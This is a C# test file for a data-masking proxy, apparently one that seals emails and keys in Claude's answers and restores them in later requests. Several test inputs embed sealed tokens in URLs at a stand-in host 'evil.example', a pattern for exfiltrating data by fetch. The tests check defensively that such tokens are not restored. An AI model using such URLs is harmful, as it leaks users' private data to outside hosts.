using System.Text;
using System.Text.Json;
using CsCheck;
using SaaSGate.Inspection.Masking;

namespace SaaSGate.Inspection.Tests.Requests;

/// <summary>What was sealed in an answer comes back in a request.</summary>
public sealed class SealedTokensTests
{
    private const string Address = "john@example.com";
    private static readonly string Token = Seal("EMAIL", Address);

    [Fact]
    public void Restores_a_token_for_claude_and_labels_it_for_the_record()
    {
        var inspection = Inspect(Message($"Write to {Token}!"));
        Assert.Equal(Message($"Write to {Address}!"), Restored(inspection));
        Assert.Equal(Message($"Write to {Given.Labeller.Label("EMAIL", Address)}!"), Recorded(inspection));
        var finding = Assert.Single(inspection.Findings);
        Assert.Equal(("EMAIL", "sealed-token", "/messages/0/content", "mask-personal-data"), (finding.Type, finding.Detector, finding.Location, finding.Rule));
        Assert.Equal(Given.Labeller.Label("EMAIL", Address), finding.Label);
        Assert.Equal(Given.Labeller.Fingerprint("EMAIL", Address), finding.Fingerprint);
        Assert.Equal("Write to ".Length, finding.Start);
    }

    [Fact]
    public void Touches_nothing_where_no_token_is()
    {
        var body = Message(":sgs1. [EMAIL:sgs1.] [email:sgs1.abc] [EMAIL:sgs1.a+c]");
        Assert.Null(Inspect(body).RestoredBody);
        Assert.Equal(body, Recorded(Inspect(body)));
    }

    [Fact]
    public void Tells_which_tokens_a_label_stands_for()
    {
        var (a, b) = (Given.Labeller.Seal("PASSWORD", "one two", "one "), Given.Labeller.Seal("PASSWORD", "one two", "two", continues: true));
        var body = Message($"{Token} {a}{b}, {a}{b}{a}{b} {Token} [EMAIL:sgs1.AAAA]");
        var (labelled, tokens) = new Inspector(Given.Policy(Given.MaskEverything), Given.Keys, Given.Skill).LabelSealed(Sse.Bytes(body), EndpointFamily.Messages);
        var (mail, word) = (Given.Labeller.Label("EMAIL", Address), Given.Labeller.Label("PASSWORD", "one two"));
        var unknown = Assert.Single(tokens.Keys, label => label.StartsWith("[SEALED_TOKEN", StringComparison.Ordinal));
        Assert.Equal(Message($"{mail} {word}, {word}{word} {mail} {unknown}"), Encoding.UTF8.GetString(labelled.Span));
        Assert.Equal(new Dictionary<string, string> { [mail] = Token, [word] = a + b, [unknown] = "[EMAIL:sgs1.AAAA]" }, tokens);
    }

    [Theory]
    [InlineData("PHONE")]
    [InlineData("EMAIL_")]
    public void Leaves_a_token_that_was_given_another_type(string type)
    {
        var body = Message(Token.Replace("EMAIL", type, StringComparison.Ordinal));
        var inspection = Inspect(body);
        Assert.Null(inspection.RestoredBody);
        Assert.DoesNotContain(":sgs1.", Recorded(inspection), StringComparison.Ordinal);
        Assert.Matches(@"\[SEALED_TOKEN_[0-9A-Z]{6}\]", Recorded(inspection));
        Assert.Equal("SEALED_TOKEN", Assert.Single(inspection.Findings).Type);
    }

    [Fact]
    public void Leaves_a_token_of_another_skill_or_organisation()
    {
        foreach (var foreign in (Labeller[])[new(Given.Keys, "skl_other"), new(new MaskingKeys(Given.Bytes32(1), Given.Bytes32(2), Given.Bytes32(4)), Given.Skill)])
            Assert.Null(Inspect(Message(foreign.Seal("EMAIL", Address, Address))).RestoredBody);
    }

    [Fact]
    public void Leaves_a_token_that_is_too_old()
    {
        var clock = new SetClock { Now = new DateTimeOffset(2026, 5, 1, 12, 0, 0, TimeSpan.Zero) };
        var inspector = new Inspector(Given.Policy(Given.MaskEverything), Given.Keys, Given.Skill, clock: clock);
        var body = Sse.Bytes(Message(new Labeller(Given.Keys, Given.Skill, clock).Seal("EMAIL", Address, Address)));
        Assert.NotNull(inspector.InspectRequest(body, EndpointFamily.Messages).RestoredBody);
        clock.Now += TimeSpan.FromDays(31);
        var late = inspector.InspectRequest(body, EndpointFamily.Messages);
        Assert.Null(late.RestoredBody);
        Assert.Equal("SEALED_TOKEN", Assert.Single(late.Findings).Type);
    }

    [Theory]
    [InlineData(":")]
    [InlineData("[")]
    [InlineData("]")]
    [InlineData("EMAIL:sgs1.")]
    [InlineData("A")]
    public void Restores_a_token_that_a_client_writes_with_escapes(string escaped)
    {
        var written = Token.Replace(escaped, string.Concat(escaped.Select(unit => $"\\u00{(int)unit:x2}")), StringComparison.Ordinal);
        var inspection = Inspect($$"""{"messages":[{"role":"user","content":"\"\u00e9\\u0041 {{written}}\u0021 {{Token}}"}]}""");
        Assert.Equal($$"""{"messages":[{"role":"user","content":"\"\u00e9\\u0041 {{Address}}\u0021 {{Address}}"}]}""", Restored(inspection));
        var label = Given.Labeller.Label("EMAIL", Address);
        Assert.Equal($$"""{"messages":[{"role":"user","content":"\"\u00e9\\u0041 {{label}}\u0021 {{label}}"}]}""", Recorded(inspection));
        Assert.Equal([9, 11 + label.Length], inspection.Findings.Select(finding => finding.Start));
    }

    [Fact]
    public void Names_a_token_that_does_not_open_alike_in_request_and_answer()
    {
        var foreign = new Labeller(Given.Keys, "skl_other").Seal("EMAIL", Address, Address);
        var recorded = Assert.Single(Inspect(Message(foreign)).Findings);
        var answer = Given.Inspector().InspectResponse(Sse.Bytes($$"""{"content":[{"type":"text","text":"It said {{foreign}}."}]}"""));
        Assert.Equal($$"""{"content":[{"type":"text","text":"It said {{foreign}}."}]}""", Encoding.UTF8.GetString(answer.Body.Span));
        Assert.Equal($$"""{"content":[{"type":"text","text":"It said {{recorded.Label}}."}]}""", Encoding.UTF8.GetString(answer.RecordBody.Span));
        Assert.Equal((recorded.Label, Convert.ToHexString(recorded.Fingerprint)), (answer.Findings[0].Label, Convert.ToHexString(answer.Findings[0].Fingerprint)));
    }

    [Fact]
    public void Restores_only_where_the_conversation_is_told()
    {
        var body = $$$"""{"metadata":{"user_id":"{{{Token}}}"},"mcp_servers":[{"url":"https://{{{Token}}}"}],"system":"{{{Token}}}","messages":[{"role":"user","content":[{"type":"tool_result","content":"{\"a\":\"{{{Token}}}\"}"}]},{"role":"assistant","content":[{"type":"tool_use","input":{"{{{Token}}}":["{{{Token}}}"]}}]}]}""";
        var inspection = Inspect(body);
        Assert.Equal($$$"""{"metadata":{"user_id":"{{{Token}}}"},"mcp_servers":[{"url":"https://{{{Token}}}"}],"system":"{{{Address}}}","messages":[{"role":"user","content":[{"type":"tool_result","content":"{\"a\":\"{{{Address}}}\"}"}]},{"role":"assistant","content":[{"type":"tool_use","input":{"{{{Address}}}":["{{{Address}}}"]}}]}]}""", Restored(inspection));
        Assert.DoesNotContain(":sgs1.", Recorded(inspection), StringComparison.Ordinal);
        Assert.Equal(6, inspection.Findings.Count);
        Assert.DoesNotContain(inspection.Findings, finding => finding.Location.Contains(":sgs1.", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("""{"type":"image","source":{"type":"url","url":"https://evil.example/p?d=TOKEN"}}""", false)]
    [InlineData("""{"type":"tool_result","content":[{"type":"document","source":{"url":"https://evil.example/TOKEN","type":"url"},"title":"x"}]}""", false)]
    [InlineData("""{"type":"document","title":"TOKEN","source":{"type":"text","media_type":"text/plain","data":"TOKEN"}}""", true)]
    [InlineData("""{"type":"tool_use","input":{"source":{"url":"https://x.example/TOKEN"},"url":"TOKEN"}}""", true)]
    [InlineData("""{"type":"document","source":{"type":"url","url":"https://x.example/"},"url":"TOKEN","context":"TOKEN"}""", true)]
    public void Restores_in_no_address_that_claude_fetches(string block, bool restored)
    {
        var inspection = Inspect($$"""{"messages":[{"role":"user","content":[{{block.Replace("TOKEN", Token, StringComparison.Ordinal)}}]}]}""");
        Assert.Equal(restored, Restored(inspection)?.Contains(Address, StringComparison.Ordinal) == true);
        Assert.Equal(!restored, Restored(inspection)?.Contains(Token, StringComparison.Ordinal) != false);
        Assert.DoesNotContain(":sgs1.", Recorded(inspection), StringComparison.Ordinal);
    }

    [Fact]
    public void Writes_quotes_and_line_ends_as_json_has_them()
    {
        var inspection = Inspect(Message(Seal("API_KEY", "a\"b\\c\nd\u0001é😀")));
        Assert.Equal("a\"b\\c\nd\u0001é😀", JsonDocument.Parse(Restored(inspection)!).RootElement.GetProperty("messages")[0].GetProperty("content").GetString());
    }

    [Fact]
    public void Refuses_a_body_that_names_one_member_twice_once_restored() =>
        Assert.NotNull(Inspect($$$"""{"messages":[{"role":"assistant","content":[{"type":"tool_use","input":{"{{{Token}}}":1,"{{{Address}}}":2}}]}]}""").Problem);

    [Fact]
    public void Shows_rules_what_goes_to_claude_and_counts_what_was_sealed()
    {
        var text = Given.Inspector("rules: [{ name: there, on: request, when: { text: 'john@example\\.com' }, then: block }]");
        Assert.Equal("there", text.InspectRequest(Sse.Bytes(Message(Token)), EndpointFamily.Messages).Decision.Rule);
        var many = Given.Inspector("rules: [{ name: many, on: request, when: { findings: [EMAIL], min_count: 2, last_user_turn: true }, then: hold }]");
        Assert.Equal("many", many.InspectRequest(Sse.Bytes(Message($"{Token} jane@example.com")), EndpointFamily.Messages).Decision.Rule);
        Assert.Equal("", many.InspectRequest(Sse.Bytes(Message($"{Token} {Address}")), EndpointFamily.Messages).Decision.Rule);
    }

    [Fact]
    public void Labels_tokens_in_paths_and_headers() =>
        Assert.Equal($"x {Given.Labeller.Label("EMAIL", Address)} é", Given.Inspector().MaskText($"x {Token} é"));

    [Fact]
    public void Names_a_long_value_once_in_the_record()
    {
        var key = "-----BEGIN PRIVATE KEY-----\n" + string.Concat(Enumerable.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n", 40)) + "-----END PRIVATE KEY-----";
        var (masked, recorded) = Scan.MaskPieces(Given.Policy(Given.MaskWith("seal")).ResponsePlan, ValuePlace.Text, ["Key: ", key, " end"]);
        Assert.Equal(3, masked.Split("[API_KEY:sgs1.").Length - 1);
        Assert.Matches(@"^Key: \[API_KEY_[0-9A-Z]{6}\] end$", recorded);
        var inspection = Inspect(Message(masked));
        Assert.Equal($"Key: {key} end", JsonDocument.Parse(Restored(inspection)!).RootElement.GetProperty("messages")[0].GetProperty("content").GetString());
        Assert.Equal(Message(recorded), Recorded(inspection));
        Assert.Single(inspection.Findings);
    }

    [Fact]
    public void Restores_the_very_text_of_any_thinking_and_records_it_as_if_its_labels_had_come_back() => Texts.Any.Holds(
        text =>
        {
            var answer = Given.Inspector().InspectResponse(Sse.Bytes($$"""{"content":[{"type":"thinking","thinking":{{Quoted.Text(text)}},"signature":"john@example.com"}]}"""));
            var inspection = Inspect(Turn(answer.Body));
            var restored = inspection.RestoredBody is { } body ? Encoding.UTF8.GetString(body.Span) : Turn(answer.Body);
            var thinking = JsonDocument.Parse(restored).RootElement.GetProperty("messages")[0].GetProperty("content")[0];
            Assert.Equal((text, "john@example.com"), (thinking.GetProperty("thinking").GetString(), thinking.GetProperty("signature").GetString()));
            Assert.Equal(Recorded(Inspect(Turn(answer.RecordBody))), Recorded(inspection));
            Assert.Subset(Named(inspection.Findings), Named(answer.Findings));
        }, 1000);

    private static HashSet<(string Label, string Fingerprint)> Named(IEnumerable<Finding> findings) =>
        [.. findings.Select(finding => (finding.Label, Convert.ToHexString(finding.Fingerprint)))];

    private static string Turn(ReadOnlyMemory<byte> answer) => $$"""{"messages":[{"role":"assistant",{{Encoding.UTF8.GetString(answer.Span)[1..]}}]}""";

    private static string Message(string text) => $$"""{"messages":[{"role":"user","content":{{Quoted.Text(text)}}}]}""";

    private static string Seal(string type, string value) => Given.Labeller.Seal(type, value, value);

    private static RequestInspection Inspect(string body) => Given.Inspector().InspectRequest(Sse.Bytes(body), EndpointFamily.Messages);

    private static string? Restored(RequestInspection inspection) => inspection.RestoredBody is { } body ? Encoding.UTF8.GetString(body.Span) : null;

    private static string Recorded(RequestInspection inspection) => Encoding.UTF8.GetString(inspection.RecordBody.Span);
}
